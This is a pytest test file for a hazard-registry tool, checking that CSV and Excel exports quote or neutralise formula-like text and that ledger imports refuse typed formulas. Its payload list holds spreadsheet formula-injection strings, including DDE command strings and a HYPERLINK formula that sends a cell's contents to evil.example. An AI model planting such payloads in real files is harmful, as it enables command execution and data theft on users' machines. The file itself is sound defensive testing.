"""No live formulas (issue 9, item 10): registry text planted in every text column comes out of the
site's CSV with a leading quote when a spreadsheet would run it, out of every .xlsx as a string
cell (never a formula), and back through the ledger import unchanged; a formula typed into a
ledger is refused at its cell, a text that only looks like one is read as text."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import unicodedata
import zipfile
from pathlib import Path
from typing import Any

import pytest
import yaml
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.formula import ArrayFormula

from rectify.check import build_registry
from rectify.cli import main
from rectify.load import parse
from rectify.paths import find
from rectify.site.context import SiteOptions
from rectify.site.generate import generate

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A3)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,2)",
    "﹦1+1",
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "'=1+1",
    "-10",
    "\x1b=1+1",  # a control character (no XML can hold it) before the formula
]
HARMLESS = ["1号楼-东侧", "a=b", "整改@现场", "'引号开头"]
HAZARD = "registry/hazards/2023/HAZ-2023-00001.yaml"


def looks_like_formula(text: str) -> bool:
    """The test's own reading of OWASP: a tab/CR/LF first, or =+-@ (any width) after spaces."""
    if text[:1] and text[0] in "\t\r\n":
        return True
    body = text.lstrip(" \u3000\u00a0\u200b\ufeff\x1b")
    return unicodedata.normalize("NFKC", body[:1]) in ("=", "+", "-", "@") if body else False


def load(root: Path, rel: str) -> dict[str, Any]:
    data, _, problems = parse((root / rel).read_text(encoding="utf-8"), rel)
    assert data is not None and problems == []
    return data


def dump(root: Path, rel: str, data: dict[str, Any]) -> None:
    (root / rel).write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")


@pytest.fixture
def planted(repo: Path) -> Path:
    """One hazard per payload, the payload in every free-text field; names of the district, the
    enterprise and the campaign planted too."""
    base = load(repo, HAZARD)
    for number, text in enumerate(PAYLOADS + HARMLESS, 10):
        data = {**base, "id": f"HAZ-2023-{number:05d}", "title": text, "description": text, "location": text}
        data["rectification"] = {**base["rectification"], "measures": [text], "emergency_plan": text}
        dump(repo, f"registry/hazards/2023/HAZ-2023-{number:05d}.yaml", data)
    for rel, key, text in (
        ("registry/organizations/suixi.yaml", "name", '=HYPERLINK("http://x","濉溪县")'),
        ("registry/enterprises/91340621MA2NTE0T19.yaml", "name", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("registry/campaigns/CAMP-2023-001.yaml", "title", "+1+1 专项整治"),
    ):
        data = load(repo, rel)
        data[key] = text
        dump(repo, rel, data)
    return repo


def no_formula_parts(data: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert not re.search(r"<(\w+:)?f[ >/]", xml), f"formula element in {name}"


def test_site_csv_quotes_every_formula_like_text(planted: Path) -> None:
    registry, _, _ = build_registry(find(planted))
    files = generate(registry, SiteOptions(profile="public", today=dt.date(2023, 12, 31))).files
    rows = list(csv.reader(io.StringIO(files["downloads/hazards.csv"].decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    by_id = {row[0]: dict(zip(header, row, strict=True)) for row in body}
    for number, text in enumerate(PAYLOADS + HARMLESS, 10):
        title = by_id[f"HAZ-2023-{number:05d}"]["隐患名称"]
        assert title == ("'" + text if looks_like_formula(text) or text == "'=1+1" else text), repr(text)
    first = by_id["HAZ-2023-00001"]
    assert first["县区"] == '\'=HYPERLINK("http://x","濉溪县")'
    assert first["企业"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert first["专项整治"] == "'+1+1 专项整治"
    assert first["逾期天数"] == "31"  # numbers stay numbers
    for row in body:
        for cell in row:
            assert not looks_like_formula(cell) or cell.startswith("'"), repr(cell)


def test_site_xlsx_writes_text_as_strings(planted: Path) -> None:
    registry, _, _ = build_registry(find(planted))
    files = generate(registry, SiteOptions(profile="public", today=dt.date(2023, 12, 31))).files
    data = files["downloads/hazards.xlsx"]
    no_formula_parts(data)
    sheet = load_workbook(io.BytesIO(data))["隐患台账"]
    header = [c.value for c in sheet[1]]
    titles = {}
    for row in sheet.iter_rows(min_row=2):
        assert all(c.data_type != "f" for c in row)
        titles[row[0].value] = row[header.index("隐患名称")]
        overdue = row[header.index("逾期天数")]
        assert overdue.data_type == "n" and isinstance(overdue.value, int)
    for number, text in enumerate(PAYLOADS, 10):
        cell = titles[f"HAZ-2023-{number:05d}"]
        assert cell.data_type == "s" and cell.quotePrefix
        assert cell.value == text.replace("\x1b", "_x001B_")  # OOXML's escape, which Excel reads back


def test_ledger_export_is_inert_and_imports_back_unchanged(
    planted: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = {p: p.read_bytes() for p in (planted / "registry").rglob("*.yaml")}
    for kind, sheet in (("hazards", "隐患台账"), ("organizations", "机构台账"), ("enterprises", "企业台账")):
        book = tmp_path / f"{kind}.xlsx"
        assert main(["--root", str(planted), "ledger", "export", "--kind", kind, "--out", str(book)]) == 0
        no_formula_parts(book.read_bytes())
        cells = [c for row in load_workbook(book)[sheet].iter_rows() for c in row if c.value is not None]
        assert all(c.data_type != "f" for c in cells)
        assert main(["--root", str(planted), "ledger", "import", str(book), "--today", "2023-11-01"]) == 0
        assert "新建 0，更新 0" in capsys.readouterr().out
    assert {p: p.read_bytes() for p in (planted / "registry").rglob("*.yaml")} == before


def ledger(path: Path, rows: list[list[Any]], text_cells: bool = False) -> Path:
    book = Workbook()
    ws = book.active
    assert ws is not None
    ws.title = "隐患台账"
    ws.append(["隐患编号", "隐患名称", "整改资金（元）"])
    for r, values in enumerate(rows, 2):
        for c, value in enumerate(values, 1):
            cell = ws.cell(r, c)
            cell.value = value
            if text_cells and isinstance(value, str):
                cell.data_type = "s"  # as Excel stores '=… typed with a leading quote
    book.save(path)
    return path


@pytest.mark.parametrize(
    ("title", "funds", "column"),
    [
        ("=1+1", 1, "B 列（隐患名称）"),
        ("=cmd|' /C calc'!A0", 1, "B 列（隐患名称）"),
        ('=HYPERLINK("http://x","y")', 1, "B 列（隐患名称）"),
        ("新名称", "=SUM(1,2)", "C 列（整改资金（元））"),
        ("新名称", ArrayFormula("C2", "=SUM(1)"), "C 列（整改资金（元））"),
    ],
)
def test_a_formula_typed_into_a_ledger_is_refused_at_its_cell(
    repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], title: Any, funds: Any, column: str
) -> None:
    before = (repo / HAZARD).read_bytes()
    book = ledger(tmp_path / "f.xlsx", [["HAZ-2023-00001", title, funds]])
    assert main(["--root", str(repo), "ledger", "import", str(book), "--today", "2023-11-01"]) == 1
    assert (repo / HAZARD).read_bytes() == before
    out = capsys.readouterr().out
    assert f"工作表“隐患台账”第 2 行 {column}：单元格是公式" in out


@pytest.mark.parametrize("title", ["=1+1", "@SUM(1,2)", "＝1+1", "-1+1", "=cmd|' /C calc'!A0"])
def test_text_that_looks_like_a_formula_is_read_as_text(repo: Path, tmp_path: Path, title: str) -> None:
    book = ledger(tmp_path / "t.xlsx", [["HAZ-2023-00001", title, 120000]], text_cells=True)
    assert main(["--root", str(repo), "ledger", "import", str(book), "--today", "2023-11-01"]) == 0
    assert load(repo, HAZARD)["title"] == title
    assert load(repo, HAZARD)["rectification"]["funds_cny"] == 120000


def test_numbers_stay_numbers_and_only_risky_text_is_quoted() -> None:
    from openpyxl.cell.cell import Cell

    from rectify.ledger.sheetsafe import csv_text, set_value

    assert [csv_text(v) for v in (-5, -120.5, 0, "-5", "5-1", "")] == [-5, -120.5, 0, "'-5", "5-1", ""]
    sheet = Workbook().active
    assert sheet is not None
    for value, kind, stored in ((-120.5, "n", -120.5), (10**15 + 1, "s", str(10**15 + 1)), ("=1", "s", "=1")):
        cell = Cell(sheet)
        set_value(cell, value)
        assert (cell.data_type, cell.value) == (kind, stored)


def test_a_text_longer_than_a_cell_holds_is_not_cut_by_a_round_trip(repo: Path, tmp_path: Path) -> None:
    data = load(repo, HAZARD)
    data["description"] = "=" + "长" * 40_000
    dump(repo, HAZARD, data)
    before = (repo / HAZARD).read_bytes()
    book = tmp_path / "h.xlsx"
    assert main(["--root", str(repo), "ledger", "export", "--kind", "hazards", "--out", str(book)]) == 0
    assert main(["--root", str(repo), "ledger", "import", str(book), "--today", "2023-11-01"]) == 0
    assert (repo / HAZARD).read_bytes() == before
